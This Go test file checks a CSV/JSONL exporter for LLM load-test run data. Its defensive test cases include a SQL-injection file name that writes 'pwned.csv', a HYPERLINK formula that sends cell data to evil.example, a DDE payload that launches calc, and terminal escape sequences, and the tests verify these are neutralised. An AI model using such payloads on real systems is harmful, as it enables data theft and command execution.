package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/llmrec/llmrec/analyze"
	"github.com/llmrec/llmrec/analyze/analyzetest"
	"github.com/llmrec/llmrec/internal/cleantext"
	"github.com/llmrec/llmrec/schemas"
	"github.com/llmrec/llmrec/schemas/runfile"
)

// exportSpec is a small run with failures and LLM figures, so that the
// export has nulls, error classes and messages.
var exportSpec = analyzetest.Spec{RunID: "run-export", Model: "m", Users: []int{10, 20, 30}, StepS: 10,
	PerStep: 40, Seed: 11, FailRate: 0.1, LLM: true}

// exportedRow is one exported row as strings by column ("" for null).
type exportedRow map[string]string

// wantRow is the export of rec: what every column must hold.
func wantRow(rec schemas.Record, warmup time.Duration) exportedRow {
	t0 := analyzetest.T0
	ms := func(t time.Time) string { return strconv.FormatFloat(float64(t.Sub(t0))/1e6, 'f', 3, 64) }
	optF := func(p *float64) string {
		if p == nil {
			return ""
		}
		return strconv.FormatFloat(*p, 'g', -1, 64)
	}
	optI := func(p *int32) string {
		if p == nil {
			return ""
		}
		return strconv.Itoa(int(*p))
	}
	optS := func(p *string) string {
		if p == nil {
			return ""
		}
		return *p
	}
	return exportedRow{
		"run_id": rec.RunID, "shard": strconv.Itoa(int(rec.Shard)), "seq": strconv.FormatInt(rec.Seq, 10),
		"user": strconv.Itoa(int(rec.User)), "step": strconv.Itoa(int(rec.Step)), "users": strconv.Itoa(int(rec.Users)),
		"scheduled_at": rec.ScheduledAt.UTC().Format("2006-01-02T15:04:05.000000Z"), "scheduled_ms": ms(rec.ScheduledAt),
		"start": rec.Start.UTC().Format("2006-01-02T15:04:05.000000Z"), "start_ms": ms(rec.Start),
		"warmup":     strconv.FormatBool(rec.Start.Sub(t0) < warmup),
		"latency_ms": strconv.FormatFloat(rec.LatencyMS, 'g', -1, 64), "ttft_ms": optF(rec.TTFTMS),
		"status": strconv.Itoa(int(rec.Status)), "ok": strconv.FormatBool(rec.OK),
		"error_class": optS(rec.ErrorClass), "error": optS(rec.Error),
		"prompt_tokens": optI(rec.PromptTokens), "output_tokens": optI(rec.OutputTokens),
		"chunks": strconv.Itoa(int(rec.Chunks)), "bytes_in": strconv.FormatInt(rec.BytesIn, 10),
		"turn": optI(rec.Turn), "prefix": optI(rec.Prefix),
		"max_tokens": optI(rec.MaxTokens), "prompt_index": optI(rec.PromptIndex),
	}
}

// normalize makes a value as exported comparable with wantRow's: numbers
// in their shortest form, ms with three decimals.
func normalize(col, v string) string {
	switch col {
	case "scheduled_ms", "start_ms":
		if f, err := strconv.ParseFloat(v, 64); err == nil {
			return strconv.FormatFloat(f, 'f', 3, 64)
		}
	case "latency_ms", "ttft_ms":
		if f, err := strconv.ParseFloat(v, 64); err == nil {
			return strconv.FormatFloat(f, 'g', -1, 64)
		}
	}
	return v
}

func readCSV(t *testing.T, b []byte) []exportedRow {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("read the CSV back: %v", err)
	}
	if len(recs) == 0 || strings.Join(recs[0], ",") != strings.Join(ExportColumns, ",") {
		t.Fatalf("CSV header %v, want %v", recs[0], ExportColumns)
	}
	var rows []exportedRow
	for _, r := range recs[1:] {
		row := exportedRow{}
		for i, col := range recs[0] {
			row[col] = normalize(col, r[i])
		}
		rows = append(rows, row)
	}
	return rows
}

func readJSONL(t *testing.T, b []byte) []exportedRow {
	t.Helper()
	var rows []exportedRow
	for i, line := range strings.Split(strings.TrimSuffix(string(b), "\n"), "\n") {
		d := json.NewDecoder(strings.NewReader(line))
		d.UseNumber()
		var m map[string]any
		if err := d.Decode(&m); err != nil {
			t.Fatalf("line %d %q: %v", i+1, line, err)
		}
		if len(m) != len(ExportColumns) {
			t.Fatalf("line %d has %d keys, want %d: %s", i+1, len(m), len(ExportColumns), line)
		}
		row := exportedRow{}
		for _, col := range ExportColumns {
			v, ok := m[col]
			if !ok {
				t.Fatalf("line %d has no %q: %s", i+1, col, line)
			}
			switch x := v.(type) {
			case nil:
				row[col] = ""
			case string:
				row[col] = x
			case json.Number:
				row[col] = normalize(col, x.String())
			case bool:
				row[col] = strconv.FormatBool(x)
			default:
				t.Fatalf("line %d: %s is %T", i+1, col, v)
			}
		}
		rows = append(rows, row)
	}
	return rows
}

func compareRows(t *testing.T, got []exportedRow, recs []schemas.Record, warmup time.Duration) {
	t.Helper()
	if len(got) != len(recs) {
		t.Fatalf("%d rows exported, want %d", len(got), len(recs))
	}
	bad := 0
	for i, rec := range recs {
		want := wantRow(rec, warmup)
		for _, col := range ExportColumns {
			if got[i][col] != want[col] && bad < 10 {
				bad++
				t.Errorf("row %d %s = %q, want %q", i, col, got[i][col], want[col])
			}
		}
	}
}

// TestExport exports a fixture run as CSV and JSONL and checks every
// column of every row against the records the file was written from.
func TestExport(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	in := filepath.Join(dir, "run.parquet")
	if err := analyzetest.Write(in, exportSpec); err != nil {
		t.Fatal(err)
	}
	_, recs := analyzetest.Records(exportSpec)
	var fails, warm int
	for _, r := range recs {
		if !r.OK {
			fails++
		}
		if r.Start.Sub(analyzetest.T0) < 15*time.Second {
			warm++
		}
	}
	if fails == 0 || warm == 0 || warm == len(recs) {
		t.Fatalf("fixture has %d failures and %d warmup rows of %d: it tests nothing", fails, warm, len(recs))
	}
	opts := analyze.DefaultOptions()
	opts.Warmup = 15 * time.Second
	for _, tc := range []struct {
		format string
		read   func(*testing.T, []byte) []exportedRow
	}{{ExportCSV, readCSV}, {ExportJSONL, readJSONL}} {
		t.Run(tc.format, func(t *testing.T) {
			out := filepath.Join(dir, "rows."+tc.format)
			n, err := Export(ctx, opts, tc.format, out, in)
			if err != nil {
				t.Fatal(err)
			}
			if n != int64(len(recs)) {
				t.Errorf("Export reported %d rows, want %d", n, len(recs))
			}
			b, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			compareRows(t, tc.read(t, b), recs, opts.Warmup)
			// Export writes only a new file.
			var oe *OutputError
			if _, err := Export(ctx, analyze.DefaultOptions(), tc.format, out, in); !errors.As(err, &oe) {
				t.Errorf("Export over an existing file: %v; want an OutputError", err)
			}
			if b2, _ := os.ReadFile(out); !bytes.Equal(b2, b) {
				t.Error("Export changed an existing file")
			}
		})
	}
}

// TestExportShards exports two shards of one run: the rows come shard by
// shard, each in send order, and the times count from the earliest start.
func TestExportShards(t *testing.T) {
	dir := t.TempDir()
	meta, recs := analyzetest.Records(exportSpec)
	var shard [2][]schemas.Record
	for i, r := range recs {
		if i%3 != 0 { // version 3: some rows have a turn and a prefix
			turn, prefix := int32(i%4+1), int32(i%5)
			r.Turn, r.Prefix = &turn, &prefix
		}
		s := r.Seq % 2
		r.Shard, r.Seq = int32(s), int64(len(shard[s]))
		shard[s] = append(shard[s], r)
	}
	var paths []string
	for s := range shard {
		m := *meta
		m.Shard, m.Shards = s, 2
		p := filepath.Join(dir, "shard-"+strconv.Itoa(s)+".parquet")
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		w := runfile.NewParquetWriter(f)
		if err := w.Write(shard[s]); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(&m); err != nil {
			t.Fatal(err)
		}
		f.Close()
		paths = append(paths, p)
	}
	// Given in reverse: the export orders by shard.
	out := filepath.Join(dir, "rows.csv")
	if _, err := Export(context.Background(), analyze.DefaultOptions(), ExportCSV, out, paths[1], paths[0]); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	compareRows(t, readCSV(t, b), append(shard[0], shard[1]...), defaultExportWarmup)
}

// TestExportVersion1: a file of version 1, without the columns added
// since, exports them as nulls.
func TestExportVersion1(t *testing.T) {
	out := filepath.Join(t.TempDir(), "rows.csv")
	n, err := Export(context.Background(), analyze.DefaultOptions(), ExportCSV, out, filepath.Join("..", "testdata", "v1-closed.parquet"))
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, b)
	if n == 0 || int64(len(rows)) != n {
		t.Fatalf("%d rows exported, %d read", n, len(rows))
	}
	for i, r := range rows {
		if r["turn"] != "" || r["prefix"] != "" || r["seq"] == "" {
			t.Fatalf("row %d: turn %q prefix %q seq %q: want null, null and a number", i, r["turn"], r["prefix"], r["seq"])
		}
	}
}

// TestExportHostileNames exports from and to files whose names hold SQL
// quotes, statement separators, glob characters, a backslash, a newline and
// non-ASCII letters: each is written where asked, with the rows, and
// nothing else is created.
func TestExportHostileNames(t *testing.T) {
	ctx := context.Background()
	_, recs := analyzetest.Records(exportSpec)
	for _, name := range []string{
		"it's.csv",
		`x'); COPY (SELECT 1) TO 'pwned.csv'; --.csv`,
		"star*quest?[br].csv",
		`back\slash.csv`,
		"new\nline.csv",
		"résumé 数据.csv",
		"-dash.csv",
	} {
		t.Run(strings.ReplaceAll(name, "\n", `\n`), func(t *testing.T) {
			root := t.TempDir()
			dir := filepath.Join(root, "dir '"+string([]rune(name)[:2]))
			if err := os.Mkdir(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			in := filepath.Join(dir, "in "+strings.TrimSuffix(name, ".csv")+".parquet")
			if strings.Contains(name, `\`) {
				in = filepath.Join(dir, "in.parquet") // DuckDB cannot read such a name (input.go refuses it)
			}
			if err := analyzetest.Write(in, exportSpec); err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(dir, name)
			if _, err := Export(ctx, analyze.DefaultOptions(), ExportCSV, out, in); err != nil {
				t.Fatal(err)
			}
			b, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			compareRows(t, readCSV(t, b), recs, defaultExportWarmup)
			ents, _ := os.ReadDir(dir)
			if len(ents) != 2 {
				t.Errorf("%d entries in the directory, want the input and the output", len(ents))
			}
			for _, p := range []string{filepath.Join(dir, "pwned.csv"), "pwned.csv"} {
				if _, err := os.Stat(p); err == nil {
					t.Errorf("%s was written: the output path was run as SQL", p)
				}
			}
		})
	}
}

// TestExportRefuses checks what Export must not do: write over an
// existing file or link (the command's output rule chose a new path for
// it), read a name DuckDB cannot take, or take a format it does not know.
func TestExportRefuses(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	in := filepath.Join(dir, "run.parquet")
	if err := analyzetest.Write(in, exportSpec); err != nil {
		t.Fatal(err)
	}
	orig, _ := os.ReadFile(in)
	victim := filepath.Join(dir, "victim.txt")
	if err := os.WriteFile(victim, []byte("keep me"), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link.csv")
	if err := os.Symlink(victim, link); err != nil {
		t.Fatal(err)
	}
	dangling := filepath.Join(dir, "dangling.csv")
	if err := os.Symlink(filepath.Join(dir, "nowhere"), dangling); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{in, victim, link, dangling, dir} {
		_, err := Export(ctx, analyze.DefaultOptions(), ExportCSV, out, in)
		var oe *OutputError
		if !errors.As(err, &oe) || !strings.Contains(err.Error(), "only a new file") {
			t.Errorf("Export to %s: %v, want an OutputError", out, err)
		}
	}
	if b, _ := os.ReadFile(in); !bytes.Equal(b, orig) {
		t.Error("the input changed")
	}
	if b, _ := os.ReadFile(victim); string(b) != "keep me" {
		t.Errorf("the symbolic link's target now holds %q", b)
	}
	if _, err := os.Lstat(filepath.Join(dir, "nowhere")); err == nil {
		t.Error("the dangling link's target was created")
	}
	// A name that is not UTF-8: DuckDB cannot take it, as an input or as
	// the target (one clear line, not a crash).
	bad := filepath.Join(dir, "bad\xff.parquet")
	if err := os.Link(in, bad); err != nil {
		t.Fatal(err)
	}
	var ie *analyze.InputError
	if _, err := Export(ctx, analyze.DefaultOptions(), ExportCSV, filepath.Join(dir, "ok.csv"), bad); !errors.As(err, &ie) {
		t.Errorf("input %q: %v, want an InputError", bad, err)
	}
	var oe *OutputError
	if _, err := Export(ctx, analyze.DefaultOptions(), ExportCSV, filepath.Join(dir, "out\xfe.csv"), in); !errors.As(err, &oe) {
		t.Errorf("target not UTF-8: %v, want an OutputError", err)
	}
	if _, err := Export(ctx, analyze.DefaultOptions(), "xlsx", filepath.Join(dir, "x.xlsx"), in); err == nil {
		t.Error("format xlsx was accepted")
	}
}

// defaultExportWarmup is the default warmup (auto) of the export specs'
// 10 s steps.
var defaultExportWarmup = analyze.AutoWarmup(analyze.Shape{StepTimeS: 10})

// TestExportNeutralisesText: text cells crafted in a run file (a run_id,
// an error class and messages) that a spreadsheet would run as a formula,
// or that hold terminal escapes. In CSV every text cell that starts with
// '=', '+', '-' or '@' gets a leading single quote; in CSV and JSONL no
// control character is left in any value (it becomes a space); numbers
// (negative ones too) and other text are as they were.
func TestExportNeutralisesText(t *testing.T) {
	dir := t.TempDir()
	meta, recs := analyzetest.Records(exportSpec)
	const runID = `=HYPERLINK("http://evil.example/?"&A3,"open")`
	meta.RunID = runID
	errs := []struct{ class, msg, csv, jsonl string }{
		{"@SUM(1+1)", "\x1b]0;pwned\x07\x1b[2J=1+1", "'@SUM(1+1)| ]0;pwned  [2J=1+1", "@SUM(1+1)| ]0;pwned  [2J=1+1"},
		{"http_5xx", "+1 is a formula", "http_5xx|'+1 is a formula", "http_5xx|+1 is a formula"},
		{"-x", "-2", "'-x|'-2", "-x|-2"},
		{"http_4xx", "\t=cmd|' /C calc'!A0", "http_4xx| =cmd|' /C calc'!A0", "http_4xx| =cmd|' /C calc'!A0"},
		{"http_4xx", "a\u202eb\u2028c\u009bd\re", "http_4xx|a b c d e", "http_4xx|a b c d e"},
		{"timeout", "timeout after 1s", "timeout|timeout after 1s", "timeout|timeout after 1s"},
	}
	for i := range recs {
		recs[i].RunID = runID
		if i < len(errs) {
			recs[i].OK, recs[i].Status = false, 503
			recs[i].ErrorClass, recs[i].Error = &errs[i].class, &errs[i].msg
		}
	}
	in := filepath.Join(dir, "crafted.parquet")
	if err := analyzetest.WriteRecords(in, meta, recs); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		format string
		read   func(*testing.T, []byte) []exportedRow
	}{{ExportCSV, readCSV}, {ExportJSONL, readJSONL}} {
		t.Run(tc.format, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "rows")
			if _, err := Export(context.Background(), analyze.DefaultOptions(), tc.format, out, in); err != nil {
				t.Fatal(err)
			}
			data, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			buf := bytes.NewBuffer(data)
			for i, c := range buf.String() {
				if c != '\n' && cleantext.Unprintable(c) {
					t.Fatalf("byte %d of the %s export is the control %U", i, tc.format, c)
				}
			}
			rows := tc.read(t, buf.Bytes())
			wantID := runID
			if tc.format == ExportCSV {
				wantID = "'" + runID
			}
			for i, row := range rows {
				if row["run_id"] != wantID {
					t.Fatalf("row %d run_id = %q, want %q", i, row["run_id"], wantID)
				}
				if i < len(errs) {
					want := errs[i].csv
					if tc.format == ExportJSONL {
						want = errs[i].jsonl
					}
					if got := row["error_class"] + "|" + row["error"]; got != want {
						t.Errorf("row %d: error_class|error = %q, want %q", i, got, want)
					}
				}
				if ms := row["scheduled_ms"]; strings.HasPrefix(ms, "'") {
					t.Errorf("row %d: a number was quoted: %q", i, ms)
				}
			}
		})
	}
}

// TestExportCSVCases: the export's SQL cleaning (export.sql) is the one
// CSV cell rule of Go's cleantext.CSVCell: every input of its test table
// (valid UTF-8: a run file holds no other), written as a failure's error
// message, comes out of a CSV export as the table says, and out of a
// JSONL export as cleantext.Line makes it.
func TestExportCSVCases(t *testing.T) {
	meta, recs := analyzetest.Records(exportSpec)
	var cases []string
	for _, tc := range cleantext.CSVCases {
		if utf8.ValidString(tc.In) {
			cases = append(cases, tc.In)
		}
	}
	if len(recs) < len(cases) {
		t.Fatalf("%d records for %d cases", len(recs), len(cases))
	}
	class := "http_5xx"
	for i := range cases {
		recs[i].OK, recs[i].Status = false, 503
		recs[i].ErrorClass, recs[i].Error = &class, &cases[i]
	}
	in := filepath.Join(t.TempDir(), "cases.parquet")
	if err := analyzetest.WriteRecords(in, meta, recs); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		format string
		read   func(*testing.T, []byte) []exportedRow
		want   func(string) string
	}{{ExportCSV, readCSV, cleantext.CSVCell}, {ExportJSONL, readJSONL, cleantext.Line}} {
		out := filepath.Join(t.TempDir(), "rows")
		if _, err := Export(context.Background(), analyze.DefaultOptions(), tc.format, out, in); err != nil {
			t.Fatal(err)
		}
		data, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		rows := tc.read(t, data)
		for i, c := range cases {
			if got, want := rows[i]["error"], tc.want(c); got != want {
				t.Errorf("%s: error %q exported as %q, want %q", tc.format, c, got, want)
			}
		}
	}
}
